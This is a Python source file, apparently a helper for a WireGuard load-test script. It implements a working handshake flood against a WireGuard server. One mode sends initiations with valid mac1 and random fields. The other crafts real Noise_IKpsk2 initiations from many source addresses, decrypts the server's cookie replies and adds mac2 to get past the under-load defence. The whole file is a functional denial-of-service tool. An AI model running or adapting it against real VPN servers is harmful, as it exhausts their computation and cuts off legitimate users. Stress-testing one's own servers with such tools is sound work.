#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""A WireGuard handshake flooder for 42-wg-flood.sh.

    wg_flood.py HOST PORT SERVER_PUBKEY_B64 STOPFILE [--sources ADDR N] [--rate R]

Default (garbage): initiations that carry a valid mac1 for the server's
public key (so they pass the first gate and count as handshake load) but
random ephemeral/static/timestamp fields, in small bursts from one socket;
mac2 is left zero, as a sender without a cookie does.

--sources ADDR N (valid-cookie): N sources, ADDR and the N - 1 addresses
after it (IPv4, already on the flooder's interface), one socket each, each
sending R initiations a second (--rate, default 25: just over the server's
per-source limit of 20, wireguard-go's and the kernel's).  The initiation
is a real Noise_IKpsk2 message 1 from a static key the server does not know,
made once and sent again and again: the server can tell it apart from a
peer's only after its two Diffie-Hellman computations, the most a flood can
make it spend without a peer's key.  Each source takes the cookie from the
server's cookie reply (XChaCha20-Poly1305 under HASH("cookie--" || server
public key), the mac1 it answers as associated data) and from then on sends
mac2, so its initiations pass the server's under-load gate (whitepaper
5.4.7); a new cookie replaces the old when the server's secret changes.

Both run until STOPFILE exists (or DEADLINE s pass), count what comes back and
print "sent=N cookies=M other=K" on exit (M: cookie replies addressed to one
of our sender indices that authenticate).
"""
import base64
import hashlib
import hmac
import os
import select
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

MSG_INITIATION, MSG_COOKIE_REPLY = 1, 3
INITIATION_LEN, COOKIE_REPLY_LEN = 148, 64
BURST, PAUSE = 32, 0.005  # garbage: a few thousand a second at most
DEADLINE = 120.0
CONSTRUCTION = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s"
IDENTIFIER = b"WireGuard v1 zx2c4 Jason@zx2c4.com"


def blake2s(*parts):
    return hashlib.blake2s(b"".join(parts)).digest()


def hmac2s(key, data):
    return hmac.new(key, data, hashlib.blake2s).digest()


def kdf(ck, data, n):
    t0 = hmac2s(ck, data)
    out, prev = [], b""
    for i in range(1, n + 1):
        prev = hmac2s(t0, prev + bytes([i]))
        out.append(prev)
    return out


def pub_bytes(priv):
    return priv.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)


def tai64n():
    t = time.time()
    return struct.pack(">QI", 0x400000000000000A + int(t), int((t % 1) * 1e9) & ~0xFFFFFF)


def initiation_body(server_pub):
    """A valid message 1 up to mac1, sender index zero (set per source)."""
    static = X25519PrivateKey.generate()
    eph = X25519PrivateKey.generate()
    srv = X25519PublicKey.from_public_bytes(server_pub)
    ck = blake2s(CONSTRUCTION)
    h = blake2s(ck, IDENTIFIER)
    h = blake2s(h, server_pub)
    e_pub = pub_bytes(eph)
    h = blake2s(h, e_pub)
    ck = kdf(ck, e_pub, 1)[0]
    ck, k = kdf(ck, eph.exchange(srv), 2)
    enc_static = ChaCha20Poly1305(k).encrypt(bytes(12), pub_bytes(static), h)
    h = blake2s(h, enc_static)
    ck, k = kdf(ck, static.exchange(srv), 2)
    enc_ts = ChaCha20Poly1305(k).encrypt(bytes(12), tai64n(), h)
    return struct.pack("<B3xI", MSG_INITIATION, 0) + e_pub + enc_static + enc_ts


def rotl(v, n):
    return ((v << n) & 0xFFFFFFFF) | (v >> (32 - n))


def hchacha20(key, nonce16):
    s = list(struct.unpack("<4I", b"expand 32-byte k") + struct.unpack("<8I", key) +
             struct.unpack("<4I", nonce16))

    def qr(a, b, c, d):
        s[a] = (s[a] + s[b]) & 0xFFFFFFFF; s[d] = rotl(s[d] ^ s[a], 16)
        s[c] = (s[c] + s[d]) & 0xFFFFFFFF; s[b] = rotl(s[b] ^ s[c], 12)
        s[a] = (s[a] + s[b]) & 0xFFFFFFFF; s[d] = rotl(s[d] ^ s[a], 8)
        s[c] = (s[c] + s[d]) & 0xFFFFFFFF; s[b] = rotl(s[b] ^ s[c], 7)

    for _ in range(10):
        qr(0, 4, 8, 12); qr(1, 5, 9, 13); qr(2, 6, 10, 14); qr(3, 7, 11, 15)
        qr(0, 5, 10, 15); qr(1, 6, 11, 12); qr(2, 7, 8, 13); qr(3, 4, 9, 14)
    return struct.pack("<8I", *(s[0:4] + s[12:16]))


def xchacha_open(key, nonce24, ct, aad):
    sub = hchacha20(key, nonce24[:16])
    return ChaCha20Poly1305(sub).decrypt(bytes(4) + nonce24[16:], ct, aad)


class Source:
    def __init__(self, addr, host, port, fam, body, sender, mac1_key):
        self.s = socket.socket(fam, socket.SOCK_DGRAM)
        self.s.bind((addr, 0))
        self.s.connect((host, port))
        self.s.setblocking(False)
        self.sender = sender
        self.body = body[:4] + struct.pack("<I", sender) + body[8:]
        self.mac1 = hashlib.blake2s(self.body, key=mac1_key, digest_size=16).digest()
        self.msg = self.body + self.mac1 + bytes(16)

    def take_cookie(self, cookie):
        head = self.body + self.mac1
        self.msg = head + hashlib.blake2s(head, key=cookie, digest_size=16).digest()


def flood_valid(host, port, server_pub, stopfile, first, n, rate):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    mac1_key = blake2s(b"mac1----", server_pub)
    cookie_key = blake2s(b"cookie--", server_pub)
    body = initiation_body(server_pub)
    base = int.from_bytes(os.urandom(4), "little") & 0xFFFF0000
    start = int.from_bytes(socket.inet_aton(first), "big")
    srcs = [Source(socket.inet_ntoa((start + i).to_bytes(4, "big")), host, port, fam, body,
                   base | i, mac1_key) for i in range(n)]
    by_fd = {x.s.fileno(): x for x in srcs}
    poller = select.poll()
    for x in srcs:
        poller.register(x.s, select.POLLIN)
    sent = cookies = other = turn = 0
    t0 = time.monotonic()
    end = t0 + DEADLINE
    while time.monotonic() < end and not os.path.exists(stopfile):
        # every source sends rate a second, spread over the second; after
        # a pause (SIGSTOP) it goes on at that rate, with no catching up
        due = int((time.monotonic() - t0) * rate * n)
        turn = max(turn, due - n)
        while turn < due:
            try:
                srcs[turn % n].s.send(srcs[turn % n].msg)
                sent += 1
            except (BlockingIOError, ConnectionRefusedError):
                pass
            turn += 1
        for fd, _ in poller.poll(5):
            x = by_fd[fd]
            while True:
                try:
                    d = x.s.recv(2048)
                except (BlockingIOError, ConnectionRefusedError):
                    break
                if (len(d) == COOKIE_REPLY_LEN and d[0] == MSG_COOKIE_REPLY
                        and struct.unpack_from("<I", d, 4)[0] == x.sender):
                    try:
                        x.take_cookie(xchacha_open(cookie_key, d[8:32], d[32:], x.mac1))
                        cookies += 1
                    except Exception:  # does not authenticate
                        other += 1
                else:
                    other += 1
    print(f"sent={sent} cookies={cookies} other={other}", flush=True)


def flood_garbage(host, port, server_pub, stopfile):
    mac1_key = blake2s(b"mac1----", server_pub)
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.connect((host, port))
    s.setblocking(False)
    base = int.from_bytes(os.urandom(4), "little") & 0xFFFF0000
    sent = cookies = other = 0
    end = time.monotonic() + DEADLINE
    while time.monotonic() < end and not os.path.exists(stopfile):
        for _ in range(BURST):
            sender = base | (sent & 0xFFFF)
            body = struct.pack("<B3xI", MSG_INITIATION, sender) + os.urandom(32 + 48 + 28)
            mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
            try:
                s.send(body + mac1 + bytes(16))
                sent += 1
            except (BlockingIOError, ConnectionRefusedError):
                pass
        while True:
            try:
                d = s.recv(2048)
            except (BlockingIOError, ConnectionRefusedError):
                break
            if (len(d) == COOKIE_REPLY_LEN and d[0] == MSG_COOKIE_REPLY
                    and struct.unpack_from("<I", d, 4)[0] & 0xFFFF0000 == base):
                cookies += 1
            else:
                other += 1
        time.sleep(PAUSE)
    print(f"sent={sent} cookies={cookies} other={other}", flush=True)


def main():
    args = sys.argv[1:]
    opts = {}
    while len(args) > 4:
        if args[4] == "--sources":
            opts["sources"] = (args[5], int(args[6]))
            del args[4:7]
        elif args[4] == "--rate":
            opts["rate"] = float(args[5])
            del args[4:6]
        else:
            sys.exit(f"wg_flood.py: unknown option {args[4]}")
    if len(args) != 4:
        sys.exit(__doc__)
    host, port, pub_b64, stopfile = args[0], int(args[1]), args[2], args[3]
    server_pub = base64.b64decode(pub_b64)
    if "sources" in opts:
        first, n = opts["sources"]
        flood_valid(host, port, server_pub, stopfile, first, n, opts.get("rate", 25.0))
    else:
        flood_garbage(host, port, server_pub, stopfile)


if __name__ == "__main__":
    main()
